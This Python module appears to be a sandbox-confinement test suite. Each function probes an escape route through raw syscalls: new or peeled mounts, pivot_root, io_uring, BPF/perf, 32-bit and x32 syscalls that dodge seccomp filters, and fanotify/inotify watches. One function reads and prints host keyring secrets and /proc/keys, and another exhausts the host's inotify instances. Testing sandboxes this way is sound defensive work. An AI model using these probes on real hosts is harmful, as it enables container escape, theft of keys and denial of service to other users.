"""Attacks on the kernel's other doors: mounts, rings, keyrings, BPF, foreign system calls, terminals."""

import ctypes, os, signal, struct, sys
from attack import *


@attack("proved", control="userns")
def mounted():
    """Escape list 10, 16: a new mount by mount(2) and mount(8)."""
    os.makedirs("m", exist_ok=True)
    each([lambda: call(165, text("none"), text("m"), text("tmpfs"), 0, 0) == 0 and proved(),
          lambda: sh("mount --bind /usr m") == 0 and proved()])


@attack("proved", control="userns")
def mounted_by_descriptor():
    """Escape list 10: the newer calls."""
    each([lambda: call(430, text("tmpfs"), 0) >= 0 and proved(), lambda: call(428, -100, text("/usr"), 1) >= 0 and proved(),
          lambda: call(442, -100, text("/"), 0, ctypes.create_string_buffer(32), 32) == 0 and proved(),
          lambda: call(467, -100, text("/usr"), 1, ctypes.create_string_buffer(32), 32) >= 0 and proved(),
          lambda: call(433, -100, text("/"), 0) >= 0 and proved()])


@attack("proved", control="userns")
def peeled():
    """CVE-2025-31133's kin, escape list 10: what was mounted over is uncovered, made writable, or moved."""
    each([lambda p=p: call(166, text(p), 2) == 0 and proved() for p in (WORK + "/.envrc", WORK, "/dev/null", "/proc", "/tmp")])
    each([lambda: call(165, 0, text("/usr"), 0, 0x1020 | 0x8000, 0) == 0 and proved(),
          lambda: sh("mount -o remount,rw,bind /usr") == 0 and proved(),
          lambda: sh("mount --move /tmp /run") == 0 and proved()])
    # The control has nothing of ours to peel; it peels a mount of its own.
    if sh("mkdir -p m && mount -t tmpfs none m && umount m") == 0:
        proved()


@attack("proved", control="userns")
def root_changed():
    """Own: pivot_root and chroot."""
    os.makedirs("m/old", exist_ok=True)
    each([lambda: sh("mount -t tmpfs none m && mkdir m/old && pivot_root m m/old") == 0 and proved(),
          lambda: os.chroot("m") or proved()])


@attack("proved")
def io_uring():
    """Escape list 20: rings do what filters of calls never see."""
    if call(425, 4, ctypes.create_string_buffer(120)) >= 0:
        proved()


@attack("proved", control="root")
def programs_in_the_kernel():
    """Escape list 23: BPF, perf, page faults by user code, modules."""
    def bpf():
        union = struct.pack("IIII", 2, 4, 4, 1) + bytes(112)
        return call(321, 0, ctypes.c_char_p(union), 128) >= 0 and proved()
    def perf():
        event = struct.pack("II", 1, 112) + bytes(104)
        return call(298, ctypes.c_char_p(event), 0, -1, -1, 0) >= 0 and proved()
    each([bpf, perf, lambda: call(323, 0) >= 0 and proved(), lambda: call(323, 1) >= 0 and proved()])


@attack("secret")
def host_keyring():
    """Escape list 22: keyrings are of users and sessions, not of namespaces."""
    for ring in (-3, -4, -5, -2, -1):
        try:
            key = call(250, 10, ring, text("user"), text(NEAR.get("key", "none")), 0)
        except OSError as error:
            print(error, file=sys.stderr)
            continue
        buffer = ctypes.create_string_buffer(256)
        each([lambda: call(250, 11, key, buffer, 256)])
        print(buffer.value.decode())
    each([lambda: print(open("/proc/keys").read())])


@attack("proved")
def keys_left():
    """Escape list 22: a key left in the user's keyring for the next."""
    if call(248, text("user"), text("left-" + TOKEN), text("x"), 1, -4) > 0:
        proved()
        call(250, 9, call(250, 10, -4, text("user"), text("left-" + TOKEN), 0), -4)


@attack("proved")
def foreign_calls():
    """Escape list 21: 32-bit calls by int 0x80, whose numbers a filter for x86-64 would misread."""
    source = "foreign.c"
    put(source, FOREIGN)
    if sh("gcc -O0 -o foreign foreign.c") == 0 and sh("./foreign") == 42:
        proved()


FOREIGN = """
int main(void) {
    int result;
    /* getpid of the i386 table is 20; on x86-64 that is writev. */
    __asm__ volatile("int $0x80" : "=a"(result) : "0"(20) : "memory");
    return result > 0 ? 42 : 1;
}
"""


@attack("proved")
def x32_calls():
    """Escape list 21: numbers with bit 30 set are another table."""
    child = os.fork()
    if child == 0:
        try:
            os._exit(42 if call(0x40000000 + 39) > 0 else 1)
        except OSError:
            os._exit(1)
    if os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 42:
        proved()


@attack("proved")
def personalities():
    """Own: READ_IMPLIES_EXEC and a page at zero weaken every program run afterwards."""
    if call(135, 0x0400000) >= 0 and call(135, 0xffffffff) & 0x0400000:
        proved()


@attack("proved", control="root")
def machine_settings():
    """Own: host name, clock and log; the clock is set to what it is, the name to its own."""
    name = os.uname().nodename.encode()
    def clock():
        import time
        before = time.clock_gettime(time.CLOCK_REALTIME)
        return call(227, 0, ctypes.create_string_buffer(struct.pack("qq", int(before), int(before % 1 * 1e9)))) == 0
    each([lambda: call(170, ctypes.c_char_p(name), len(name)) == 0 and proved(), lambda: call(103, 10, 0, 0) > 0 and proved(),
          lambda: call(163, 0) == 0 and proved()])


@attack("proved", control="root")
def watched_by_fanotify():
    """Own: fanotify sees every access to a file system and hands out descriptors."""
    fd = call(300, 0, 0)
    call(301, fd, 0x1 | 0x10, 0x20, -100, text("/usr"))
    proved()


@attack("proved")
def watched_by_inotify():
    """Own: a watch on a file of the host tells when it is used."""
    fd = call(253)
    if call(254, fd, text(CANARY), 0x20) >= 0:
        proved()


@attack("crowded")
def inotify_used_up():
    """Own: instances of inotify are counted for the host's user; when all are taken, its editors see no change."""
    import time
    held = []
    try:
        while len(held) < 4000:
            held.append(call(294, 0))
    except OSError as error:
        print(len(held), error, file=sys.stderr)
    for _ in range(20):
        if os.fork() == 0:
            try:
                while True:
                    held.append(call(294, 0))
            except OSError:
                time.sleep(1.5)
            os._exit(0)
    print("HOLDING", flush=True)
    time.sleep(1.2)
